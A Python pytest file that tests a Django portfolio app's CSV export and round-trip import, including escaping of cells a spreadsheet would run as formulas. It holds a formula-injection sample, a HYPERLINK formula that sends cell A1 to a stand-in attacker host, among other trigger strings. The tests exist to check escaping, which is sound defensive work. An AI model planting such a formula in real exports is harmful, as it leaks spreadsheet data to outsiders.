"""manage.py export_portfolio, and the round trip: export, import into an empty database, same portfolio."""

from __future__ import annotations

import csv
import datetime
import io
import shutil
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command
from django.db import connection, transaction
from django.utils import timezone

from gates.interchange import FILES, command_line_import, export_portfolio, exported_files
from gates.interchange.export import ONLY_WITH_ROWS
from gates.models import ArchitectureEstimate, CriterionScore, GateDecision
from portfolio import metrics
from portfolio.models import AuditEntry, Outcome, Project, SpendEntry, SpendMonth, Status, User
from tests.builders import make_project

SAMPLE = Path(__file__).resolve().parent.parent / "data" / "sample-portfolio"
AS_OF = [datetime.date(2024, 6, 30), datetime.date(2026, 6, 30), datetime.date(2026, 11, 20)]
MONEY_COLUMNS = {
    "projected_low",
    "projected_expected",
    "projected_high",
    "funding_granted",
    "amount",
    "realized_value",
}
PROBABILITY_COLUMNS = {"probability_of_success"}
EMAIL_COLUMNS = {"researcher", "product_manager", "decided_by"}


def read(folder: Path, name: str) -> list[dict]:
    """Rows with values compared by meaning: 12500 == 12500.00, emails ignoring case."""
    with (folder / name).open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        for column, value in row.items():
            if column in MONEY_COLUMNS:
                row[column] = Decimal(value or "0")
            elif column in PROBABILITY_COLUMNS:
                row[column] = Decimal(value) if value else None
            elif column in EMAIL_COLUMNS:
                row[column] = value.lower()
    return rows


def by_project(rows: list[dict]) -> dict[str, list[dict]]:
    grouped: dict[str, list[dict]] = {}
    for row in rows:
        grouped.setdefault(row["project"], []).append(row)
    return grouped


def snapshot() -> dict:
    """The portfolio as the database holds it, ids left out."""
    return {
        "projects": sorted(
            Project.objects.values_list(
                "key",
                "title",
                "research_type",
                "bucket",
                "researcher__email",
                "product_manager__email",
                "submitted_on",
                "value_kind",
                "projected_low",
                "projected_expected",
                "projected_high",
                "probability_of_success",
                "next_stage_ask",
                "status",
                "current_gate",
                "decisions_count",
                "last_decision_on",
                "latest_probability",
                "funding_granted_total",
                "spend_total",
                "last_spend_on",
            )
        ),
        "decisions": sorted(
            GateDecision.objects.values_list(
                "project__key",
                "sequence",
                "gate__number",
                "decided_on",
                "decision",
                "funding_granted",
                "probability_of_success",
                "rationale",
                "decided_by__email",
            )
        ),
        "spend": sorted(
            SpendEntry.objects.values_list("project__key", "spent_on", "amount", "category", "note")
        ),
        "spend_months": sorted(
            SpendMonth.objects.values_list("project__key", "month", "amount", "entries")
        ),
        "outcomes": sorted(Outcome.objects.values_list("project__key", "month", "realized_value")),
        "estimates": sorted(
            (
                estimate.project.key,
                timezone.localdate(estimate.updated_at),
                estimate.build_cost,
                estimate.monthly_run_cost,
                estimate.retraining_cadence,
                estimate.cost_per_retrain,
                estimate.author.email if estimate.author else None,
            )
            for estimate in ArchitectureEstimate.objects.select_related("project", "author")
        ),
        # Roles are not part of the files (version 2): an admin grants them in the app.
        "people": sorted((user.email, user.has_usable_password()) for user in User.objects.all()),
    }


def empty_the_database() -> None:
    """Everything the import writes, gone (history too: the test's own rewrite)."""
    tables = [
        ArchitectureEstimate,
        AuditEntry,
        Outcome,
        SpendMonth,
        SpendEntry,
        CriterionScore,
        GateDecision,
        Project,
        User.groups.through,
        User,
    ]
    with transaction.atomic(), connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            cursor.execute("SELECT set_config('greenlight.allow_history_rewrite', 'on', true)")
        for model in tables:
            cursor.execute(f"DELETE FROM {model._meta.db_table}")
    assert not Project.objects.exists()


def test_it_gives_back_the_same_portfolio_and_metrics_after_a_round_trip(db, tmp_path):
    command_line_import(SAMPLE)
    before = snapshot()
    metrics_before = [metrics.compute(as_of=day) for day in AS_OF]
    export_portfolio(tmp_path / "first")

    empty_the_database()
    command_line_import(tmp_path / "first")

    assert snapshot() == before
    assert [metrics.compute(as_of=day) for day in AS_OF] == metrics_before
    export_portfolio(tmp_path / "second")
    for name in FILES:
        assert (tmp_path / "second" / name).read_bytes() == (tmp_path / "first" / name).read_bytes()


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def make_version_2_portfolio(carol, folder: Path) -> None:
    """The sample, with what version 2 adds: asks, estimates, and text a spreadsheet
    would run as a formula (or that looks like text quoted for one)."""
    for name in FILES:
        shutil.copy(SAMPLE / name, folder / name)
    decisions = (folder / "gate_decisions.csv").read_text(encoding="utf-8")
    decisions = decisions.replace(",Waiting for data-sharing agreement", ',"\t-tabbed, =SUM(A1)"')
    (folder / "gate_decisions.csv").write_text(decisions, encoding="utf-8")
    # Written in the files (a spend row is not changed once written): quoted, as an
    # export writes them.
    spend = (folder / "spend.csv").read_text(encoding="utf-8")
    spend = spend.replace(
        "RP-0001,2026-01-14,1993.82,compute,\n", "RP-0001,2026-01-14,1993.82,compute,'@vendor\n"
    )
    spend = spend.replace('"contractor, week"', "''-x", 1)
    (folder / "spend.csv").write_text(spend, encoding="utf-8")
    command_line_import(folder)
    Project.objects.filter(key="RP-0002").update(next_stage_ask=Decimal("125000.50"))
    # The smallest ask (one of 0 is no ask, kept empty: tests/planning/test_next_stage_ask_of_zero.py).
    Project.objects.filter(key="RP-0003").update(next_stage_ask=Decimal("0.01"), title=HYPERLINK)
    Project.objects.filter(key="RP-0004").update(title="'=already quoted once")
    Project.objects.filter(key="RP-0005").update(title="+1 idea, @team, -5% cost")
    for key, author in (("RP-0002", carol), ("RP-0003", None)):
        ArchitectureEstimate.objects.create(
            project=Project.objects.get(key=key),
            author=author,
            build_cost=Decimal("90000.00"),
            monthly_run_cost=Decimal("1500.25"),
            retraining_cadence="quarterly",
            cost_per_retrain=Decimal("800.00"),
        )


def test_a_version_2_portfolio_comes_back_the_same(db, tmp_path, carol):
    make_version_2_portfolio(carol, tmp_path)
    carol.set_unusable_password()  # an empty database gets her without one: not a difference
    carol.save()
    before = snapshot()
    metrics_before = [metrics.compute(as_of=day) for day in AS_OF]
    first = export_portfolio(tmp_path / "first")

    empty_the_database()
    command_line_import(tmp_path / "first")

    assert snapshot() == before
    assert [metrics.compute(as_of=day) for day in AS_OF] == metrics_before
    assert Project.objects.get(key="RP-0003").title == HYPERLINK
    rationale = GateDecision.objects.get(project__key="RP-0001", decision="kill").rationale
    assert rationale == "\t-tabbed, =SUM(A1)"
    assert export_portfolio(tmp_path / "second").files == first.files
    for name in first.files:
        assert (tmp_path / "second" / name).read_bytes() == (tmp_path / "first" / name).read_bytes()


def test_it_writes_text_cells_a_spreadsheet_shows_as_text(db, tmp_path, carol):
    make_version_2_portfolio(carol, tmp_path)

    export_portfolio(tmp_path)

    titles = {
        row["key"]: row["title"] for row in csv.DictReader((tmp_path / "projects.csv").open())
    }
    assert titles["RP-0003"] == "'" + HYPERLINK
    assert titles["RP-0004"] == "''=already quoted once"
    assert titles["RP-0005"] == "'+1 idea, @team, -5% cost"
    assert titles["RP-0001"] == "Vision study #1"
    notes = {row["note"] for row in csv.DictReader((tmp_path / "spend.csv").open())}
    assert {"'@vendor", "''-x"} <= notes
    rationales = {
        row["rationale"] for row in csv.DictReader((tmp_path / "gate_decisions.csv").open())
    }
    assert "'\t-tabbed, =SUM(A1)" in rationales
    estimates = list(csv.DictReader((tmp_path / "estimates.csv").open()))
    assert estimates == [
        {
            "project": "RP-0002",
            "estimated_on": timezone.localdate().isoformat(),
            "build_cost": "90000.00",
            "monthly_run_cost": "1500.25",
            "retrains_per_year": "4",
            "cost_per_retrain": "800.00",
            "estimated_by": "carol@example.com",
        },
        {
            "project": "RP-0003",
            "estimated_on": timezone.localdate().isoformat(),
            "build_cost": "90000.00",
            "monthly_run_cost": "1500.25",
            "retrains_per_year": "4",
            "cost_per_retrain": "800.00",
            "estimated_by": "",
        },
    ]
    asks = {
        row["key"]: row["next_stage_ask"]
        for row in csv.DictReader((tmp_path / "projects.csv").open())
    }
    assert (asks["RP-0002"], asks["RP-0003"], asks["RP-0001"]) == ("125000.50", "0.01", "")


def test_it_exports_what_was_imported(db, tmp_path):
    command_line_import(SAMPLE)

    export_portfolio(tmp_path)

    key = lambda row: row["key"]  # noqa: E731
    exported = read(tmp_path, "projects.csv")
    # The sample is a version 1 folder: nobody asks for a next stage.
    assert {row.pop("next_stage_ask") for row in exported} == {""}
    assert sorted(exported, key=key) == sorted(read(SAMPLE, "projects.csv"), key=key)
    # Each project's decisions in the order they were recorded (file order on one date).
    assert by_project(read(tmp_path, "gate_decisions.csv")) == {
        project: sorted(rows, key=lambda row: row["decided_on"])
        for project, rows in by_project(read(SAMPLE, "gate_decisions.csv")).items()
    }
    spend_key = lambda row: (row["project"], row["spent_on"], row["amount"], row["note"])  # noqa: E731
    assert sorted(read(tmp_path, "spend.csv"), key=spend_key) == sorted(
        read(SAMPLE, "spend.csv"), key=spend_key
    )
    outcome_key = lambda row: (row["project"], row["month"])  # noqa: E731
    assert sorted(read(tmp_path, "outcomes.csv"), key=outcome_key) == sorted(
        read(SAMPLE, "outcomes.csv"), key=outcome_key
    )


def test_it_writes_plain_money_dates_and_probabilities(db, tmp_path):
    command_line_import(SAMPLE)

    export_portfolio(tmp_path)

    lines = (tmp_path / "projects.csv").read_text(encoding="utf-8").splitlines()
    assert lines[0] == (
        "key,title,research_type,bucket,researcher,product_manager,submitted_on,value_kind,"
        "projected_low,projected_expected,projected_high,probability_of_success,next_stage_ask"
    )
    assert next(line for line in lines if line.startswith("RP-0001,")) == (
        "RP-0001,Vision study #1,applied,efficiency,researcher10@example.com,pm1@example.com,"
        "2026-01-02,cost_savings,222000.00,661000.00,1196000.00,0.46,"
    )
    decisions = (tmp_path / "gate_decisions.csv").read_text(encoding="utf-8").splitlines()
    assert decisions[1:3] == [
        "EDGE-sameday,1,2023-01-31,hold,0.00,pm3@example.com,,",
        "EDGE-sameday,1,2023-01-31,go,0.00,pm3@example.com,,",
    ]
    assert next(line for line in decisions if line.startswith("RP-0001,")) == (
        "RP-0001,1,2026-03-10,kill,0.00,pm1@example.com,0.19,Waiting for data-sharing agreement"
    )


def test_it_keeps_the_order_of_decisions_recorded_in_the_app_on_one_day(db, tmp_path, alice, bob):
    project = make_project(researcher=alice, product_manager=bob, key="APP-1")
    for sequence, decision in ((1, "hold"), (2, "recycle"), (3, "go")):
        GateDecision.objects.create(
            project=project,
            gate_id=1,
            decision=decision,
            decided_on=datetime.date(2026, 2, 2),
            sequence=sequence,
            decided_by=bob,
        )

    export_portfolio(tmp_path)

    rows = read(tmp_path, "gate_decisions.csv")
    assert [row["decision"] for row in rows] == ["hold", "recycle", "go"]


def test_it_leaves_drafts_out(db, tmp_path, alice, bob):
    make_project(researcher=alice, product_manager=bob, key="DRAFT-1", status=Status.DRAFT)
    make_project(researcher=alice, product_manager=bob, key="SUB-1")

    export_portfolio(tmp_path)

    assert [row["key"] for row in read(tmp_path, "projects.csv")] == ["SUB-1"]


def test_it_writes_headers_only_for_an_empty_portfolio(db, tmp_path):
    export_portfolio(tmp_path)

    # RFC 4180 line ends.
    assert (tmp_path / "spend.csv").read_bytes() == b"project,spent_on,amount,category,note\r\n"


def test_the_command_writes_every_file_of_the_format(db, tmp_path):
    command_line_import(SAMPLE)
    stdout = io.StringIO()

    call_command("export_portfolio", str(tmp_path / "out"), stdout=stdout)

    # Version 3's optional files are written only when they have rows: this sample has none.
    written = [name for name in exported_files() if name not in ONLY_WITH_ROWS]
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(written)
    assert stdout.getvalue().startswith(
        "Exported 62 projects, 146 gate decisions, 620 spend entries, 99 outcome months, "
        "0 architecture estimates, 0 artifacts (0 reuses) and 0 months of adoption."
    )


def test_the_command_refuses_a_path_that_is_a_file(db, tmp_path):
    (tmp_path / "file").write_text("x")

    with pytest.raises(Exception, match="is not a folder"):
        call_command("export_portfolio", str(tmp_path / "file"))
